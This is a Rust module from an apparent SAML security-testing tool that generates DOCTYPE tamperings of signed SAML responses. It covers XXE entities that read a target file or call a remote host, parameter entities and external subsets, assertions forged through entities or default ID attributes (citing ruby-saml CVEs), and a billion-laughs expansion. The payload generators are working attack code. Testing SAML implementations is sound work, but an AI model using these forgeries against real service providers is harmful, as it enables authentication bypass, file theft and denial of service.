use crate::saml::forge::{Bench, Draft, ForgeError, Rest, Signed};

use super::list::tamperings;
use super::names::{FILE, REMOTE};
use super::stage::Stage;

tamperings! {
    /// A document type, which SAML has no use for. What entities stand for is read by one reader and
    /// not by another.
    DoctypeTampering, "Document types";

    /// A document type that declares nothing.
    Unused = "doctype-unused", Unusual, "Kantara SAML V2.0 Implementation Profile IIP-G03";
    /// The rest of the signed name is an internal entity.
    InternalEntity = "doctype-internal-entity", Whole, "CVE-2025-25291 (ruby-saml); XML 1.0 section 4.2.1";
    /// The rest of the name is a file of the target.
    ExternalEntity = "doctype-external-entity", Divided, "CWE-611; XML 1.0 section 4.2.2";
    /// The rest of the name is on another host.
    RemoteEntity = "doctype-remote-entity", Divided, "CWE-611; XML 1.0 section 4.2.2";
    /// A parameter entity on another host.
    ParameterEntity = "doctype-parameter-entity", Unusual, "CWE-611; XML 1.0 section 4.1";
    /// An external subset on another host.
    ExternalSubset = "doctype-external-subset", Unusual, "CWE-611; XML 1.0 section 2.8";
    /// A forged assertion, as an internal entity, before the signed one.
    EntityWithMarkup = "doctype-entity-with-markup", Mixed, "CVE-2025-25291 (ruby-saml)";
    /// A forged assertion before the signed one gets its ID by a default of the document type.
    DefaultId = "doctype-default-id", Mixed, "CVE-2025-25292 (ruby-saml); XML 1.0 section 3.3.2";
    /// Entities in entities, which come to 1,000 million letters in the name.
    EntityExpansion = "doctype-entity-expansion", Divided, "CWE-776";
}

impl Stage for DoctypeTampering {
    fn signs(self) -> Option<&'static [Signed]> {
        matches!(self, Self::EntityWithMarkup | Self::DefaultId).then_some(&[Signed::Assertion])
    }

    fn rest(self) -> Option<(Rest, bool)> {
        matches!(
            self,
            Self::InternalEntity
                | Self::ExternalEntity
                | Self::RemoteEntity
                | Self::EntityExpansion
        )
        .then_some((Rest::After, true))
    }

    // An entity stands for nothing in what was encrypted.
    fn wants_plain(self) -> bool {
        self.rest().is_some()
    }

    fn after_signing(self, draft: &mut Draft, bench: &Bench<'_>) -> Result<(), ForgeError> {
        let rest = Rest::After.text();
        let (external, inside) = match self {
            Self::Unused => (String::new(), String::new()),
            Self::InternalEntity => (String::new(), format!("<!ENTITY rest \"{rest}\">")),
            Self::ExternalEntity => (String::new(), format!("<!ENTITY rest SYSTEM \"{FILE}\">")),
            Self::RemoteEntity => (String::new(), format!("<!ENTITY rest SYSTEM \"{REMOTE}\">")),
            Self::ParameterEntity => {
                (String::new(), format!("<!ENTITY % more SYSTEM \"{REMOTE}\">%more;"))
            }
            Self::ExternalSubset => (format!(" SYSTEM \"{REMOTE}\""), String::new()),
            Self::EntityWithMarkup => (String::new(), forged_entity(draft, bench)?),
            Self::DefaultId => (String::new(), default_id(draft, bench)?),
            Self::EntityExpansion => (String::new(), expansion()),
        };
        let root = draft.document.node(draft.response).and_then(|node| node.name());
        let inside = if inside.is_empty() { inside } else { format!(" [{inside}]") };
        let written = format!("<!DOCTYPE {}{external}{inside}>", root.unwrap_or_default());
        if self.rest().is_some() {
            for name in draft.all(draft.response, "NameID") {
                let first = draft.document.make_text(&bench.context.other.name_id)?;
                let entity = draft.document.make_raw(b"&rest;")?;
                draft.only(name, [first, entity])?;
            }
        }
        let doctype = draft.document.make_raw(written.as_bytes())?;
        Ok(draft.document.insert_before(draft.response, doctype)?)
    }
}

/// Puts an entity before the signed assertion; it stands for a forged one.
fn forged_entity(draft: &mut Draft, bench: &Bench<'_>) -> Result<String, ForgeError> {
    let forged = bench.forged_assertion(&mut draft.document)?;
    let written = draft.document.node(forged).map(|node| node.to_bytes()).unwrap_or_default();
    let written = String::from_utf8_lossy(&written);
    let quoted = written.replace('&', "&#38;").replace('%', "&#37;").replace('\'', "&#39;");
    let entity = draft.document.make_raw(b"&forged;")?;
    let genuine = draft.assertion()?;
    draft.document.insert_before(genuine, entity)?;
    Ok(format!("<!ENTITY forged '{quoted}'>"))
}

/// Puts an assertion without an ID before the signed one, whose ID is what it gets by default.
fn default_id(draft: &mut Draft, bench: &Bench<'_>) -> Result<String, ForgeError> {
    let forged = bench.forged_assertion(&mut draft.document)?;
    draft.document.remove_attribute(forged, "ID")?;
    let genuine = draft.assertion()?;
    draft.document.insert_before(genuine, forged)?;
    let name = draft.document.node(forged).and_then(|node| node.name()).unwrap_or_default();
    let (name, id) = (name.to_owned(), &bench.ids.assertion);
    Ok(format!("<!ATTLIST {name} ID CDATA \"{id}\">"))
}

/// Nine levels of ten, which come to a thousand million letters.
fn expansion() -> String {
    let mut declarations = String::from("<!ENTITY e0 \"x\">");
    for level in 1..=8 {
        let inner = format!("&e{};", level - 1).repeat(10);
        declarations.push_str(&format!("<!ENTITY e{level} \"{inner}\">"));
    }
    let last = "&e8;".repeat(10);
    declarations + &format!("<!ENTITY rest \"{last}\">")
}
